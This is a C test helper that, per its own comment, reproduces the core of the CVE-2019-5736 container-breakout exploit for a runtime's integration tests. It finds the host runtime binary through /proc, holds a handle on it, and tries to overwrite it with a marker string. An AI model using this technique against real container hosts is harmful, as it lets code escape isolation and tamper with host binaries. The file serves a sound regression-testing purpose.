// The CVE-2019-5736 exploit's core, for tests/integration/runtime_breakout.bats
// and runtime_rootless.bats: run inside a container as
//   attack SIZE TIMEOUT_MS
// it finds a process (other than itself) whose /proc/PID/exe is SIZE bytes
// long (the runtime's binary), holds an O_PATH handle on it, and tries to
// write through that handle until TIMEOUT_MS has passed. A write refused
// while the binary is running (ETXTBSY) is retried, as the real exploit does;
// any other refusal is final. Prints "caught PID", then "refused: <errno
// text>" or "WROTE"; or "none".
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>
static long long now_ms(void) {
  struct timespec t;
  clock_gettime(CLOCK_MONOTONIC, &t);
  return t.tv_sec * 1000LL + t.tv_nsec / 1000000;
}
int main(int argc, char **argv) {
  if (argc != 3) { fprintf(stderr, "usage: attack SIZE TIMEOUT_MS\n"); return 2; }
  long long size = atoll(argv[1]), deadline = now_ms() + atoll(argv[2]);
  int held = -1, pid = -1;
  setvbuf(stdout, NULL, _IONBF, 0);
  while (held < 0 && now_ms() < deadline) {
    DIR *d = opendir("/proc");
    struct dirent *e;
    while (d && (e = readdir(d)) != NULL && held < 0) {
      int p = atoi(e->d_name);
      if (p <= 0 || p == getpid()) continue;
      char path[64];
      snprintf(path, sizeof path, "/proc/%d/exe", p);
      int fd = open(path, O_PATH | O_CLOEXEC);
      struct stat st;
      if (fd < 0) continue;
      if (fstat(fd, &st) == 0 && st.st_size == size) { held = fd; pid = p; }
      else close(fd);
    }
    if (d) closedir(d);
  }
  if (held < 0) { puts("none"); return 1; }
  printf("caught %d\n", pid);
  char self[64];
  snprintf(self, sizeof self, "/proc/self/fd/%d", held);
  while (now_ms() < deadline) {
    int w = open(self, O_WRONLY | O_CLOEXEC);
    if (w < 0 && errno == ETXTBSY) { usleep(2000); continue; }
    if (w < 0) { printf("refused: %s\n", strerror(errno)); return 0; }
    if (write(w, "PWNED", 5) != 5) { printf("refused: %s\n", strerror(errno)); return 0; }
    puts("WROTE");
    return 0;
  }
  puts("refused: still busy at the deadline");
  return 0;
}
